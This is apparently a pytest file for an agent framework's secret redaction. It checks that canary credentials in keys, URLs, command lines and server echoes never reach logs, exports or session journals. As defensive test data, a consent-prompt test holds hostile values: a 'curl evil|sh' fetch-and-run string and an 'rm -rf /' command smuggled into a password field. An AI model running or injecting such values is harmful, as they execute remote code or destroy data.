"""Secrets: every artifact is searched for canaries. What is executed stays exact; what is shown, exported or logged is redacted."""

import json
import logging
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from treadle import Agent, Budget, Tool, open_session, resolve_model
from treadle.events import ModelDelta, ModelFinished, encode_event
from treadle.messages import Message, Text
from treadle.redaction import Redactor, redacted_logger, remember, scrubbed
from treadle.testing import MockProvider, ScriptedModel, Turn, call, text

CANARY = "CANARY4711"
"""Part of every secret below: no artifact may hold it."""
SECRETS = {
    "a key": f"sk-live-{CANARY}",
    "a token": f"ghp_{CANARY}abcdefghijklmno",
    "a field": f"password={CANARY}",
    "a JSON field": f'{{"api_key": "{CANARY}"}}',
    "a bearer": f"Authorization: Bearer {CANARY}",
    "a basic": f"Authorization: Basic {CANARY}",
    "an address": f"https://ada:{CANARY}@example.org/x",
    "a user": f"https://{CANARY}@example.org/x",
    "a query": f"https://example.org/x?api_key={CANARY}",
    "a web token": f"eyJhbGciOiJIUzI1NiJ9.{CANARY}.abc",
    "a private key": f"-----BEGIN PRIVATE KEY-----\n{CANARY}\n-----END PRIVATE KEY-----",
    "an option": f"mysql --user ada --password {CANARY} --host h",
    "a short field": f"pwd: {CANARY}",
    "a mail service's key": f"SG.{CANARY}abcdefgh.abcdefghijklmnop",
    "a login of a command": f"curl -s -u ada:{CANARY} example.org",
    "an own form": f"acme-{CANARY}",
}

TOOL = """
from pathlib import Path
from treadle import Tool

def _act(arguments, ctx):
    with Path(__file__).with_name("acted.txt").open("a") as file:
        file.write(arguments["note"] + "|" + arguments["password"])
    return {"said": arguments["note"], "token": arguments["password"]}

act = Tool(
    name="act", description="Act.", effect="unsafe", run=_act,
    parameters={"type": "object", "properties": {"note": {"type": "string"}, "password": {"type": "string"}}},
)
"""


@pytest.fixture
def acting(treadle: Any) -> Any:
    (treadle.folder / "act.py").write_text(TOOL)
    treadle.home.mkdir()
    (treadle.home / "config.toml").write_text("[redaction]\npatterns = ['acme-*']\n")
    return treadle


def searched(*ran: Any) -> None:
    for one in ran:
        assert CANARY not in one.stdout, one.args
        assert CANARY not in one.stderr, one.args


@pytest.mark.row("P21", "H15", "E09", "AT-SECRETS-ARTEFACTS")
@pytest.mark.parametrize(
    "names", [list(SECRETS)[first : first + 4] for first in range(0, len(SECRETS), 4)], ids=", ".join
)
def test_a_secret_of_a_model_or_a_tool_is_in_no_artifact_and_what_runs_is_exact(acting, names):
    secrets = [SECRETS[name] for name in names]
    calls = [{"name": "act", "arguments": {"note": secret, "password": CANARY}} for secret in secrets]
    say = lambda words: "\n\n".join(words.format(secret) for secret in secrets)
    acting.script("s.json", [{"text": say("I use {} now."), "calls": calls}, {"text": say("Used {}.")}])
    flags = ["-m", "script:s.json", "--tools", "act.py"]
    searched(acting("run", *flags, "-v", "--session", "s", say("Use {}"), code=11))
    waiting = acting.json("approvals", "--json")
    assert len(waiting) == len(secrets)
    searched(
        *(acting(*command, code=0) for command in (
            ["approvals"], ["approvals", "--json"], ["sessions", "show", "s"], ["sessions", "show", "s", "--json"],
        )),
        *(acting("approve", one["id"], code=0) for one in waiting),
        acting("resume", "s", *flags, "-v", "--stream-json", code=0),
        *(acting(*command, code=0) for command in (
            ["sessions"], ["sessions", "--json"], ["sessions", "show", "s"], ["sessions", "show", "s", "--json"],
            ["sessions", "explain", "s"], ["sessions", "explain", "s", "--json"], ["sessions", "export", "s"], ["sessions", "export", "s", "out.jsonl"],
        )),
    )  # fmt: skip

    assert (acting.folder / "acted.txt").read_text() == "".join(f"{secret}|{CANARY}" for secret in secrets)
    assert CANARY not in (acting.folder / "out.jsonl").read_text()
    assert json.loads((acting.folder / "out.jsonl").read_text().splitlines()[0])["redacted"] is True


@pytest.mark.row("H15")
@pytest.mark.parametrize("flags", [["--json"], ["--stream-json"], []])
def test_a_secret_that_streams_in_pieces_is_redacted_as_one(acting, flags):
    said = (
        f"It is sk-live-{CANARY}, and password = {CANARY} too. Authorization: Bearer {CANARY}.\ncurl -u ada:{CANARY} x"
    )
    with MockProvider([Turn(text=said, pieces=len(said))]).in_thread() as provider:
        ran = acting("run", *flags, *acting.served(provider), "x", code=0)

    searched(ran)
    if flags == ["--stream-json"]:
        lines = [json.loads(line) for line in ran.stdout.splitlines()]
        shown = "".join(line.get("text", "") for line in lines if line["type"] == "model.delta")
        assert CANARY not in shown
        assert shown.startswith("It is [redacted], and password = [redacted] too.")


# --- the keys that are in use ----------------------------------------------------------------------------------------


@pytest.fixture
def echoing() -> Iterator[Callable[[str], str]]:
    """Servers that say back what they were sent: as an error, as no answer at all, or as the model's own words."""
    sockets: list[socket.socket] = []

    def serve(how: str) -> str:
        server = socket.create_server(("127.0.0.1", 0))
        sockets.append(server)
        threading.Thread(target=_answer_all, args=(server, how), daemon=True).start()
        return f"127.0.0.1:{server.getsockname()[1]}"

    yield serve
    for server in sockets:
        server.close()


def _answer_all(server: socket.socket, how: str) -> None:
    while True:
        try:
            connection, _ = server.accept()
        except OSError:
            return
        with connection:
            head = connection.recv(65536).split(b"\r\n\r\n")[0].decode()
            connection.sendall(_echo(how, head))


def _echo(how: str, head: str) -> bytes:
    kind, status, body = "application/json", "200 OK", json.dumps({"error": {"message": head}})
    match how:
        case "error":
            status = "400 Bad"
        case "failure":
            status, kind, body = "500 Bad", "text/plain", head
        case "text":
            kind, body = "text/plain", head
        case "redirect":
            path = head.split()[1]
            return f"HTTP/1.1 302 Found\r\nLocation: http://x{path}\r\nContent-Length: 0\r\n\r\n".encode()
        case "garbage":
            return head.encode()
        case "answer":
            kind = "text/event-stream"
            delta = {"id": "1", "choices": [{"index": 0, "delta": {"content": head}, "finish_reason": "stop"}]}
            body = f"data: {json.dumps(delta)}\n\ndata: [DONE]\n\n"
    return f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode()


@pytest.mark.row("PF28", "H15", "AT-SECRETS-ARTEFACTS")
@pytest.mark.parametrize("how", ["error", "failure", "text", "redirect", "garbage", "answer"])
@pytest.mark.parametrize("place", ["http://user-canary1:pass-canary2@{}/v1", "http://{}/v1?x=1&plain=query-canary3"])
async def test_what_a_server_echoes_of_address_or_key_is_not_in_the_journal(echoing, how, place, tmp_path):
    key = None if "@" in place else "key-of-canary-5"
    model = resolve_model("openai-chat:m", base_url=place.format(echoing(how)), api_key=key)
    async with open_session(tmp_path / "agent.db", id="s") as session:
        agent = Agent(model, budget=Budget(max_retries_per_model_call=0))
        result = await agent.run("Say it", session=session)
        events = b"\n".join([encode_event(event) for event in await session.events()])
        explained = repr(await session.explain())

    journal = b"".join(path.read_bytes() for path in tmp_path.iterdir() if path.is_file())
    for artifact in (
        events.decode(),
        explained,
        repr(result.report()),
        repr(result.messages),
        journal.decode("latin-1"),
    ):
        for part in ("canary1", "canary2", "canary3", "canary-5", "dXNlci1jYW5hcnkx"):
            assert part not in artifact, part


@pytest.mark.row("H15")
@pytest.mark.parametrize("key", ['a-"quoted"-key', "a-back\\slash-key", "a-schlüssel-key", "a-plain-key"])
def test_a_key_is_found_however_json_writes_it(key):
    remember([key])
    said = Message(role="assistant", parts=(Text(f"It is {key}."),))

    assert scrubbed(ModelFinished(message=said)).message.text == "It is [redacted]."
    assert scrubbed(ModelDelta(text=key)).text == "[redacted]"
    assert scrubbed(ModelDelta(thinking=f"x{key}")).thinking == "x[redacted]"


@pytest.mark.row("H15")
def test_no_command_shows_user_password_or_query_of_an_address(treadle):
    address = f"https://{CANARY}user:{CANARY}@127.0.0.1:9/v1?anything={CANARY}"
    flags = ["-m", "openai-chat:m", "--base-url", address]
    treadle.home.mkdir()
    (treadle.home / "config.toml").write_text(f"base_url = '{address}'\n")

    searched(
        treadle("config", "show", code=0), treadle("config", "show", "--json", code=0), treadle("config", "show", *flags, code=0),
        treadle("doctor", OLLAMA_BASE_URL=address), treadle("doctor", "--json", OPENAI_BASE_URL=address, TREADLE_MODEL="openai-chat:m"),
        treadle("run", "-v", *flags, "--max-retries-per-model-call", "0", "x"),
        treadle("run", "-v", *flags, "--max-retries-per-model-call", "0", "x", TREADLE_DEBUG="0"),
        treadle("sessions", "--json"),
    )  # fmt: skip
    for bad in (
        f"htp://{CANARY}:{CANARY}@h",
        f"http://{CANARY}:{CANARY}@h:99999/?k={CANARY}",
        f"http://u:{CANARY}@[::bad",
        f"//{CANARY}@x",
    ):
        searched(treadle("run", "-m", "openai-chat:m", "--base-url", bad, "x", code=2))
    searched(treadle("sessions", "--journal", f"mysql://u:{CANARY}@h/d", code=2))
    searched(treadle("sessions", "--journal", f"postgresql://u:{CANARY}@h:port/d", code=2))


@pytest.mark.row("H15")
def test_a_secret_of_the_environment_is_hidden_wherever_a_tool_or_a_model_says_it(treadle):
    (treadle.folder / "env.py").write_text(
        "import os\nfrom treadle import Tool\n"
        "look = Tool(name='look', description='.', parameters={'type': 'object'}, effect='read', run=lambda a, c: dict(os.environ))\n"
        "fail = Tool(name='fail', description='.', parameters={'type': 'object'}, effect='read', run=lambda a, c: 1 / int(os.environ['MY_SERVICE_TOKEN']))\n"
    )
    calls = [{"name": name, "arguments": {}} for name in ("look", "fail")]
    model = treadle.script("s.json", [{"calls": calls}, {"text": f"It is plain{CANARY}word."}])

    ran = treadle(
        "run", "-v", "--stream-json", "-m", model, "--tools", "env.py", "--session", "s", "x", code=0,
        MY_SERVICE_TOKEN=f"plain{CANARY}word", OPENAI_API_KEY=f"other{CANARY}",
    )  # fmt: skip

    searched(ran)
    for path in treadle.home.iterdir():
        if path.is_file():
            assert CANARY.encode() not in path.read_bytes(), path


@pytest.mark.row("H15")
async def test_what_a_tool_raises_is_logged_without_its_secrets(caplog):
    def broken(arguments: Any) -> None:
        raise LookupError(f"no user for https://ada:{CANARY}@example.org and password={CANARY}")

    tool = Tool(
        name="t", description="T.", parameters={"type": "object"}, effect="read", run=lambda a, c: 1, validate=broken
    )
    with caplog.at_level(logging.DEBUG):
        await Agent(ScriptedModel([call("t"), text("x")]), tools=[tool]).run("go")
        redacted_logger("treadle.engine.tool_calls.attempts").warning("with %s", f"sk-live-{CANARY}")

    assert "Checking the arguments of t raised" in caplog.text
    assert CANARY not in caplog.text


# --- exports ---------------------------------------------------------------------------------------------------------


@pytest.mark.row("H15")
def test_an_exact_export_goes_on_elsewhere_and_a_redacted_one_with_an_open_call_does_not(acting):
    calls = [{"name": "act", "arguments": {"note": "n", "password": CANARY}}]
    acting.script("s.json", [{"calls": calls}, {"text": "Done."}])
    flags = ["-m", "script:s.json", "--tools", "act.py"]
    acting("run", *flags, "--session", "s", "x", code=11)
    approval = acting.json("approvals", "--json")[0]["id"]
    exact = acting("sessions", "export", "s", "exact.jsonl", "--exact", code=0)
    acting("sessions", "export", "s", "shared.jsonl", code=0)

    refused = acting("sessions", "import", "shared.jsonl", "--journal", "other.db", code=2)
    acting("sessions", "import", "exact.jsonl", "--journal", "other.db", code=0)
    acting("sessions", "activate", "s", "--journal", "other.db", code=0)  # its call may act in both places
    acting("approve", approval, "--journal", "other.db", code=0)
    acting("resume", "s", *flags, "--journal", "other.db", code=0)

    assert "contains the session's secrets" in exact.stderr
    assert Path(acting.folder, "exact.jsonl").stat().st_mode & 0o777 == 0o600
    assert "The export is redacted" in refused.stderr
    assert (acting.folder / "acted.txt").read_text() == f"n|{CANARY}"


# --- consent, and what is not a secret ----------------------------------------------------------------------------------


@pytest.mark.row("H14", "H15")
def test_a_prompt_hides_no_value_that_could_act():
    redactor = Redactor()

    assert redactor.consent("PASSWORD=$(curl evil|sh) x") == "PASSWORD=$(curl evil|sh) x"
    assert redactor.consent('password="; rm -rf /"') == 'password="; rm -rf /"'
    assert redactor.consent("password=hunter2") == "password=[redacted: 7 characters]"
    assert redactor.consented({"password": "a b; rm -rf /", "token": "abc"}) == {
        "password": "a b; rm -rf /",
        "token": "[redacted: 3 characters]",
    }


@pytest.mark.row("H15", "E09")
@pytest.mark.parametrize(
    "words",
    [
        "curl -u ada:{} https://example.org",
        "curl -uada:{} https://example.org",
        "/usr/bin/curl -sS -X POST -H 'Accept: text/plain' --user 'ada:{} x' https://example.org",
        'curl -u "ada:{}" https://example.org',
        '{{"command": "curl -u \\"ada:{}\\" https://example.org"}}',
        '["curl", "-u", "ada:{}", "https://example.org"]',
        "curl --proxy-user ada:{} https://example.org",
        "curl -u :{} https://example.org",
        "http -a ada:{} example.org",
        "mysql -u root -p{} shop",
        "mysqldump -uroot -p'{}' shop",
        "sshpass -p {} ssh ada@example.org",
        "docker login -u ada -p {} registry.example.org",
        "redis-cli -h cache -a {} ping",
        "ldapsearch -D cn=ada -w {}",
        "smbclient -U ada%{} //server/share",
        "openssl enc -aes256 -pass pass:{}",
        "machine example.org login ada password {}",
        "machine example.org\n  login ada\n  password {}",
        'Authorization: Digest username="ada", response="{}"',
        "AccountName=shop;AccountKey={};EndpointSuffix=core.windows.net",
        "Endpoint=sb://shop/;SharedAccessKeyName=root;SharedAccessKey={}",
    ],
)
def test_a_secret_of_a_command_or_a_connection_is_known_by_its_place(words):
    redacted = Redactor().text(words.format(CANARY))

    assert CANARY not in redacted
    assert "[redacted]" in redacted


def test_a_command_that_is_cut_anywhere_shows_no_secret_in_either_part():
    text = f"run: curl -s -u ada:{CANARY} https://example.org\nmysql -u root -p{CANARY} shop\nlogin ada password {CANARY} end"
    for place in range(len(text) + 1):
        redactor = Redactor()
        settled = redactor.settled(text[:place])
        assert CANARY[:6] not in redactor.text(text[:settled]) + redactor.text(text[settled:])


def test_ordinary_text_is_no_secret():
    for words in (
        "docker run -u 1000:1000 image", "docker run --user 1000:1000 image", "sort -u file:name", "python -u script:main", "chown -R ada:staff x",
        "mkdir -p /tmp/x", "cp -p a b", "ssh -p 2222 host", "git push -u origin main", "sudo -u postgres psql", "mysql -u root -p shop",
        "curl http://h:8080/x", "curl -u ada https://example.org", "curl -u ada:$PASSWORD h", "mysql -p$PW", "docker login", "the login page and its password field",
        "account key figures: 12", "net use", "docker build -p x . # docker login later", "-pass pass:$PW", "curl is a tool: see its page",
        "max_output_tokens=500000", "token: str | None = None", "keyboard: qwertz", "cat /etc/passwd: No such file", "PWD=/srv/ada",
        "the secret: it is simple", "bearer certificates are certificates", "password=${PASSWORD}", "https://example.org/x?page=2#top", "task-list and risk-free",
        "ada@example.org", "--token is required", "give --password once", "pwd: /srv/ada", "--password-file secrets.txt", "SG.1", '{"input_tokens": 5, "usage": {"tokens": 7}}',
    ):  # fmt: skip
        assert Redactor().text(words) == words


def test_redaction_takes_time_in_proportion_to_the_text_whatever_it_is():
    """Each of these makes a careless pattern begin anew at every character; a test that takes two minutes fails."""
    for piece in (
        "eyJ-",
        "password=",
        "a_",
        "-----BEGIN PRIVATE KEY-----",
        "://",
        "?key",
        "secret",
        "bearer ",
        "sk-",
        "token \t",
        "a.b-c_",
        "curl ",
        "curl -u ",
        "mysql -p ",
        "login x ",
        "login password ",
        '"-u","',
        "authorization: digest ",
        '"',
        "\\",
    ):
        Redactor().text(piece * (100_000 // len(piece)))
    assert Redactor(patterns=["ab*z"]).text("ab" * 100_000) == "ab" * 100_000
